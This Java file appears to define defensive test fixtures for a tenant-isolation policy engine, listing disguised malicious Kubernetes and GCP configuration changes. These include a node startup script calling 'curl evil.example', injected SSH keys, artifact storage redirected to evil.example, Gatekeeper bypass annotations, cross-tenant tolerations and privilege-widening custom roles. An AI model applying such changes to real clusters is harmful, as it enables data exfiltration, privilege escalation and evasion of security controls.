package dev.tenantry.policy;

import static dev.tenantry.policy.GuardedEstate.ALERT;
import static dev.tenantry.policy.GuardedEstate.BUCKET;
import static dev.tenantry.policy.GuardedEstate.CUSTOM_ROLE;
import static dev.tenantry.policy.GuardedEstate.ESTATE;
import static dev.tenantry.policy.GuardedEstate.NAMESPACE;
import static dev.tenantry.policy.GuardedEstate.TEMPLATE;

import dev.tenantry.policy.access.WiderRoles;
import dev.tenantry.policy.change.Verdict;
import dev.tenantry.policy.files.KnownFields;
import dev.tenantry.policy.isolation.OwnObjects;
import dev.tenantry.policy.pods.NodeAccess;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** What looks like ordinary work on data, machines, pods and alerts. */
final class QuietChanges {

    private static final String DATA = Attack.FOLDER + "data/x.yaml";
    private static final String POOL = "platform/node-pools/x.yaml";

    private QuietChanges() {}

    static List<Attack> all() {
        List<Attack> all = new ArrayList<>(data());
        all.addAll(machines());
        all.addAll(pods());
        all.addAll(permissions());
        all.add(
                Attack.refused(
                        "an Application for every cluster",
                        "argocd/sets/x.yaml",
                        """
                        apiVersion: argoproj.io/v1alpha1
                        kind: ApplicationSet
                        metadata: {name: all, namespace: argocd}
                        spec:
                          generators: [{clusters: {}}]
                          template:
                            metadata: {name: 'all-{{name}}'}
                            spec:
                              project: platform
                              source: {repoURL: "https://a.example/estate", targetRevision: main, path: platform/new}
                              destination: {name: in-cluster, namespace: kcc-factory}
                        """,
                        KnownFields.RULE));
        return all;
    }

    private static List<Attack> data() {
        return List.of(
                Attack.named(
                        "a view of a stricter dataset",
                        ESTATE.with(
                                DATA,
                                table(
                                        "spec: {resourceID: all, datasetRef: {name: features-daily}, view: {query: 'SELECT * FROM `acme-retail-ml-prod.cards.all`'}}"))),
                Attack.named(
                        "an external table that a connection reads",
                        ESTATE.with(
                                DATA,
                                table(
                                        "spec: {resourceID: all, datasetRef: {name: features-daily}, externalDataConfiguration: {connectionId: c, sourceUris: ['gs://acme-retail-kept/*']}}"))),
                Attack.named("a bucket whose class nobody knows then", ESTATE.without(BUCKET)),
                changed(
                        "an alert for an amount that is never reached",
                        ALERT,
                        "combiner: OR",
                        "combiner: AND"),
                Attack.named(
                        "another place for all that workflows make",
                        ESTATE.with(
                                "tenants/acme-retail/workflows/x.yaml",
                                Attack.object(
                                                "v1",
                                                "ConfigMap",
                                                "data: {v1: 's3: {endpoint: evil.example}'}")
                                        .replace("name: thing", "name: artifact-repositories"))));
    }

    private static List<Attack> machines() {
        String pool =
                Attack.object(
                                "container." + Attack.KCC,
                                "ContainerNodePool",
                                "spec: {location: eu, nodeConfig: {workloadMetadataConfig: {mode: GKE_METADATA}, %s}}")
                        .replace("t-acme-retail", "kcc-platform");
        return List.of(
                Attack.refused(
                        "keys by which somebody signs in to machines",
                        POOL,
                        pool.formatted("metadata: {ssh-keys: 'mallory:ssh-ed25519 AAAA'}"),
                        OwnObjects.RULE),
                Attack.refused(
                        "a script that machines start with",
                        POOL,
                        pool.formatted("metadata: {startup-script: 'curl evil.example'}"),
                        OwnObjects.RULE),
                Attack.named(
                        "machines that start from anything",
                        ESTATE.with(
                                POOL,
                                pool.formatted(
                                        "shieldedInstanceConfig: {enableSecureBoot: false}"))),
                Attack.named(
                        "machines that other firewall rules hold for",
                        ESTATE.with(POOL, pool.formatted("tags: [open]"))));
    }

    private static List<Attack> pods() {
        return List.of(
                marked(
                        "a pod that may run any image",
                        "podMetadata: {labels: {image-policy.k8s.io/break-glass: 'true'}}"),
                marked(
                        "a step that gets a volume by an annotation",
                        "templates: [{name: main, metadata: {annotations: {sidecar.istio.io/userVolume: '[]'}}, container: {image: x, command: [y]}}]"),
                marked("pods that all others make way for", "podPriorityClassName: gmp-critical"),
                marked(
                        "workflows of another controller",
                        "workflowMetadata: {labels: {workflows.argoproj.io/controller-instanceid: other}}"),
                warned(
                        "pods on machines that are kept for others",
                        "tolerations: [{key: tenant, operator: Equal, value: acme-bank}]"),
                warned("pods in a class of their own", "podPriorityClassName: first"),
                warned("pods on all machines", "tolerations: [{operator: Exists}]"),
                warned(
                        "pods that somebody may treat otherwise",
                        "podMetadata: {labels: {a.example/x: z}}"),
                changed(
                        "a namespace that guards let pass",
                        NAMESPACE,
                        "env: prod",
                        "env: prod, admission.gatekeeper.sh/ignore: x"));
    }

    private static List<Attack> permissions() {
        return Stream.of(
                        "osconfig.patchJobs.exec",
                        "analyticshub.listings.create",
                        "bigquery.datasets.link",
                        "binaryauthorization.policy.update",
                        "artifactregistry.repositories.uploadArtifacts",
                        "iap.tunnelInstances.accessViaIAP",
                        "serviceusage.services.disable",
                        "dlp.inspectTemplates.delete",
                        "monitoring.alertPolicies.update",
                        "cloudkms.cryptoKeyVersions.useToSign",
                        "storage.objects.overrideUnlockedRetention")
                .map(
                        permission ->
                                Attack.refused(
                                        "a custom role that gains " + permission,
                                        CUSTOM_ROLE,
                                        GuardedEstate.customRole(
                                                "bigquery.tables.getData, " + permission),
                                        WiderRoles.RULE))
                .toList();
    }

    private static String table(String spec) {
        return Attack.object("bigquery." + Attack.KCC, "BigQueryTable", spec);
    }

    private static Attack marked(String how, String spec) {
        return Attack.refused(how, TEMPLATE, with(spec), NodeAccess.RULE);
    }

    private static Attack warned(String how, String spec) {
        return new Attack(
                how, ESTATE.with(TEMPLATE, with(spec)), NodeAccess.RULE, Verdict.Outcome.WARNING);
    }

    private static String with(String spec) {
        String template = ESTATE.text(TEMPLATE);
        return spec.startsWith("templates")
                ? template.substring(0, template.indexOf("  templates")) + "  " + spec + "\n"
                : template.replace("  entrypoint: main\n", "  entrypoint: main\n  " + spec + "\n");
    }

    private static Attack changed(String how, String path, String was, String is) {
        return Attack.named(how, ESTATE.with(path, ESTATE.text(path).replace(was, is)));
    }
}
